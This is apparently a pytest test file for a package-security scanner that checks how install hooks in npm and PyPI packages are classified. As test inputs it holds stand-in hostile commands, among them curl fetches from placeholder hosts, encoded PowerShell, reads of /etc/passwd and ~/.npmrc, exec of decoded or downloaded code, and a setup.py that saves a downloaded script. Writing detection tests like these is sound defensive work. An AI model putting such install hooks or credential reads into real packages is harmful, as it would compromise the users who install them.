"""Install-time code judged by what it does: a build that compiles, queries and runs its own
scripts is customisation (monitor); a started script that fetches code still blocks."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from depshield.alerts.build_steps import install_is_quiet
from depshield.alerts.grading import THREATS
from depshield.analyzers.python import PythonAnalyzer
from depshield.api import analyze_artifact
from depshield.model import Finding

FIXTURES = Path(__file__).parent.parent / "fixtures"
PATHS = frozenset({"setup.py", "vendor/libfoo/autogen.sh", "build_bundled.sh", "tests/run.py"})


def alerts_of(group: str, name: str) -> dict[tuple[str, str | None, int | None], str]:
    result = analyze_artifact(FIXTURES / group / name)
    return {(a.type, a.file, a.line): a.action for a in result.alerts}


def test_native_build_setup_is_customisation_not_a_warning() -> None:
    result = analyze_artifact(FIXTURES / "lookalikes" / "pypi-setup-native-build")
    assert result.verdict == "pass", [(a.type, a.file, a.line, a.action) for a in result.alerts]
    found = {(a.type, a.file, a.line): a for a in result.alerts}
    assert found[("installScripts", "setup.py", 33)].action == "monitor"
    # the root .pth runs at every start, but only imports the package's own hook
    assert found[("installScripts", "nativelib-hook.pth", 1)].action == "monitor"
    nested = found[("installScripts", "nativelib_tests/data/nspkg/ns-1.0-nspkg.pth", 1)]
    assert nested.action == "monitor" and "site-packages" in str(nested.props["note"])
    assert not {a.type for a in result.alerts} & THREATS


def test_setup_starting_a_shipped_script_that_fetches_code_blocks() -> None:
    found = alerts_of("incidents", "pypi-setup-script-fetches")
    assert found[("remoteCodeDownload", "build.sh", 2)] == "error"


def spawn(command: str, args: str | None = None) -> Finding:
    props: dict[str, object] = {"command": command}
    if args is not None:
        props["args"] = args
    return Finding("signal:spawn", "setup.py", 5, command, props, True)


@pytest.mark.parametrize(
    "finding",
    [
        spawn("brew --prefix openssl"),
        spawn("touch", "configure.ac Makefile.in"),
        spawn("/bin/sh autogen.sh"),
        spawn("./build_bundled.sh"),
        spawn("python -Wd tests/run.py"),
        spawn("pip install ."),
        spawn("pkg-config --cflags libffi"),
    ],
)
def test_build_commands_keep_install_quiet(finding: Finding) -> None:
    assert install_is_quiet([finding], PATHS)


@pytest.mark.parametrize(
    "finding",
    [
        spawn("brew install wget"),
        spawn("pip install requests"),
        spawn("python -m pip install colorsx"),
        spawn("sh missing.sh"),
        spawn("echo 'You have been pwned' > /tmp/pwned"),
        spawn("curl -s https://payload.example.invalid/x"),
        spawn("powershell", "-enc AAAA"),
    ],
)
def test_other_commands_make_install_code_risky(finding: Finding) -> None:
    assert not install_is_quiet([finding], PATHS)


def exec_signals(code: str) -> list[tuple[int, str | None]]:
    fa = PythonAnalyzer().analyze("setup.py", code.encode())
    return [(f.line, f.props.get("code")) for f in fa.findings if f.type == "signal:exec"]


def test_exec_of_the_packages_own_file_is_plain_code() -> None:
    code = (
        "import os\n"
        "with open(os.path.join('pkg', 'version.py')) as fp:\n"
        "    exec(compile(fp.read(), 'version.py', 'exec'), {}, locals())\n"
    )
    assert set(exec_signals(code)) == {(3, "plain")}
    plain = Finding("signal:exec", "setup.py", 3, "exec(...)", {"how": "exec", "code": "plain"})
    assert install_is_quiet([plain])


def test_exec_of_decoded_or_downloaded_code_is_no_plain_code() -> None:
    decoded = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLmdldGN3ZCgpCg=='))\n"
    fetched = (
        "import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid').read())\n"
    )
    assert exec_signals(decoded) == [(2, None)]
    assert exec_signals(fetched) == [(2, None)]
    assert not install_is_quiet(
        [Finding("signal:exec", "setup.py", 2, "exec(...)", {"how": "exec"})]
    )


def npm_package(tmp_path: Path, scripts: dict[str, str], files: dict[str, str]) -> Path:
    root = tmp_path / "pkg"
    manifest = {"name": "hooked", "version": "1.0.0", "license": "MIT", "scripts": scripts}
    for path, text in {"package.json": json.dumps(manifest, indent=2), **files}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return root


def test_npm_native_build_and_own_banner_are_build_steps() -> None:
    cases = (("npm-native-addon", None), ("npm-postinstall-banner", 6))
    for name, line in (*cases, ("npm-dependency-bin-hook", 7)):
        result = analyze_artifact(FIXTURES / "lookalikes" / name)
        hooks = [a for a in result.alerts if a.type == "installScripts"]
        assert hooks and {a.action for a in hooks} == {"monitor"}, name
        if line is not None:
            assert (hooks[0].file, hooks[0].line) == ("package.json", line)


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("node lib/README.md", {"lib/README.md": "console.log('docs')\n"}),  # code as docs
        ("calc.exe", {}),
        ("node scripts/preinstall.js", {}),  # a file the package does not ship
        ("npm install left-pad-extra", {}),
        ("node setup.js", {"setup.js": "eval(process.argv[2])\n"}),
        ("fundbanner || exit 0", {}),  # the bin of no declared dependency
    ],
)
def test_npm_install_steps_that_are_no_build_still_warn(
    tmp_path: Path, script: str, files: dict[str, str]
) -> None:
    result = analyze_artifact(npm_package(tmp_path, {"preinstall": script}, files))
    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
    assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks


@pytest.mark.parametrize(
    ("script", "dependency"),
    [
        ("fundbanner || exit 0", "@inertfund/fundbanner"),  # the bin of a scoped dependency
        ("gyp-loader-optional", "gyp-loader-optional"),
    ],
)
def test_a_declared_dependencys_bin_is_judged_as_that_package(
    tmp_path: Path, script: str, dependency: str
) -> None:
    root = npm_package(tmp_path, {"postinstall": script}, {})
    manifest = json.loads((root / "package.json").read_text())
    (root / "package.json").write_text(
        json.dumps({**manifest, "dependencies": {dependency: "1.0.0"}}, indent=2)
    )
    hooks = {
        (a.file, a.line): a.action
        for a in analyze_artifact(root).alerts
        if a.type == "installScripts"
    }
    assert hooks == {("package.json", 6): "monitor"}


@pytest.mark.parametrize(
    ("script", "dependencies"),
    [
        # Handed one of the package's files, the bin runs this package's code.
        ("forever start src/index.js", {"forever": "1.0.0"}),
        # A system command keeps its meaning whatever a dependency is called.
        ("curl -fsSL https://x.example.invalid/i.sh -o i.sh", {"curl": "1.0.0"}),
        # devDependencies are not installed with a registry package.
        ("fundbanner", {}),
    ],
)
def test_dependency_bins_that_run_more_still_warn(
    tmp_path: Path, script: str, dependencies: dict[str, str]
) -> None:
    root = npm_package(tmp_path, {"postinstall": script}, {"src/index.js": "module.exports=1\n"})
    manifest = json.loads((root / "package.json").read_text())
    extra = {"dependencies": dependencies, "devDependencies": {"fundbanner": "1.0.0"}}
    (root / "package.json").write_text(json.dumps({**manifest, **extra}, indent=2))
    hooks = {
        (a.file, a.line): a.action
        for a in analyze_artifact(root).alerts
        if a.type == "installScripts"
    }
    assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks


@pytest.mark.parametrize(
    "finding",
    [
        spawn("git rev-parse --verify HEAD > .gitrev"),  # the build's own file
        spawn("dirname", '"$0"'),
        spawn("sed", "'s/[^.0-9]//g'"),
        spawn("head", "-n 1"),
        spawn("npx", 'bin-version-check-cli python ">=2"'),
        spawn("npx", "-y @scope/check-tool@1.2.0 --quiet"),
    ],
)
def test_build_plumbing_and_registry_tools_keep_install_quiet(finding: Finding) -> None:
    assert install_is_quiet([finding], PATHS)


@pytest.mark.parametrize(
    "finding",
    [
        spawn("git log >> ~/.bashrc"),
        spawn("cat", "/etc/passwd"),
        spawn("sed", "-n p $HOME/.npmrc"),
        spawn("npx", "https://tools.example.invalid/t.tgz"),
        spawn("npx", "github:someone/tool"),
        spawn("pnpm", "dlx ./run.js"),
    ],
)
def test_plumbing_that_leaves_the_build_tree_is_no_build(finding: Finding) -> None:
    assert not install_is_quiet([finding], PATHS)


def fetch(url: str) -> list[Finding]:
    props = {"detail": "urllib.request.urlopen", "url": url}
    return [
        Finding("networkAccess", "setup.py", 9, "urlopen(URL)", {"module": "urllib.request"}),
        Finding("signal:download", "setup.py", 9, "urlopen(URL)", props),
    ]


@pytest.mark.parametrize(
    "url",
    [
        "https://src.example.invalid/lib/archive/9526874d1406a13193743c605ba64358d55a8785.tar.gz",
        "https://src.example.invalid/lib/archive/{}.tar.gz",
        "https://downloads.example.invalid/libfoo-2.4.1.zip",
    ],
)
def test_pinned_source_archive_download_is_a_build_step(url: str) -> None:
    assert install_is_quiet(fetch(url))


@pytest.mark.parametrize(
    "url",
    [
        "https://cdn.example.invalid/attachments/1/2/rat.py",  # a script, not build input
        "http://src.example.invalid/lib/archive/v1.2.tar.gz",  # swappable in transit
        "https://src.example.invalid/lib/latest.tar.gz",  # no pin
        "https://{}/lib/1.2.tar.gz",  # computed host
    ],
)
def test_other_install_downloads_keep_install_code_risky(url: str) -> None:
    assert not install_is_quiet(fetch(url))


PINNED_SETUP = """\
import urllib.request
from setuptools import setup
from setuptools.command.build_ext import build_ext

class fetch_ext(build_ext):
    def run(self):
        commit = open("LIBFOO_COMMIT").read().strip()
        urllib.request.urlretrieve(
            f"https://src.example.invalid/libfoo/archive/{commit}.tar.gz", "libfoo.tar.gz"
        )
        super().run()

setup(name="withlib", version="1.0", cmdclass={"build_ext": fetch_ext})
"""


def test_setup_fetching_its_pinned_source_archive_is_monitor(tmp_path: Path) -> None:
    root = tmp_path / "withlib-1.0"
    root.mkdir()
    (root / "setup.py").write_text(PINNED_SETUP)
    (root / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: withlib\nVersion: 1.0\n")
    result = analyze_artifact(root)
    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
    assert hooks == {("setup.py", 13): "monitor"}, hooks
    lookalike = PINNED_SETUP.replace("archive/{commit}.tar.gz", "files/{commit}/run.py")
    (root / "setup.py").write_text(lookalike)
    result = analyze_artifact(root)
    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
    assert hooks == {("setup.py", 13): "warn"}, hooks


@pytest.mark.parametrize(
    "files", [{"lib/README.md": "console.log('docs')\n"}, {}], ids=["shipped", "missing"]
)
def test_npm_hook_running_a_file_named_as_docs_blocks(
    tmp_path: Path, files: dict[str, str]
) -> None:
    result = analyze_artifact(npm_package(tmp_path, {"preinstall": "node lib/README.md"}, files))
    (hook,) = [a for a in result.alerts if a.type == "installScripts"]
    assert (hook.file, hook.line, hook.action) == ("package.json", 6, "error")
    assert "lib/README.md" in str(hook.props["reason"])
    assert result.verdict == "block"


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("node scripts/readme-gen.js", {"scripts/readme-gen.js": "console.log('hi')\n"}),
        ("node config.json", {"config.json": "{}\n"}),  # node only parses JSON
    ],
)
def test_npm_hook_running_code_with_docs_like_names_does_not_block(
    tmp_path: Path, script: str, files: dict[str, str]
) -> None:
    result = analyze_artifact(npm_package(tmp_path, {"postinstall": script}, files))
    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
    assert set(hooks) == {("package.json", 6)} and "error" not in hooks.values(), hooks


SAVED_SCRIPT_SETUP = """\
import requests
from setuptools import setup
from setuptools.command.install import install

class fetch_install(install):
    def run(self):
        response = requests.get("https://cdn.example.invalid/attachments/1/2/{name}")
        with open("{name}", "wb") as f:
            f.write(response.content)
        install.run(self)

setup(name="fetcher", version="1.0", cmdclass={{"install": fetch_install}})
"""


@pytest.mark.parametrize(
    ("name", "fires"), [("tool.py", True), ("helper.ps1", True), ("libfoo-1.2.3.tar.gz", False)]
)
def test_install_saving_a_downloaded_script_blocks(tmp_path: Path, name: str, fires: bool) -> None:
    root = tmp_path / "fetcher-1.0"
    root.mkdir()
    (root / "setup.py").write_text(SAVED_SCRIPT_SETUP.format(name=name))
    (root / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: fetcher\nVersion: 1.0\n")
    result = analyze_artifact(root)
    found = {(a.type, a.file, a.line): a.action for a in result.alerts if a.type in THREATS}
    if fires:
        assert found[("remoteCodeDownload", "setup.py", 7)] == "error", found
        assert result.verdict == "block"
    else:
        assert found == {}, found
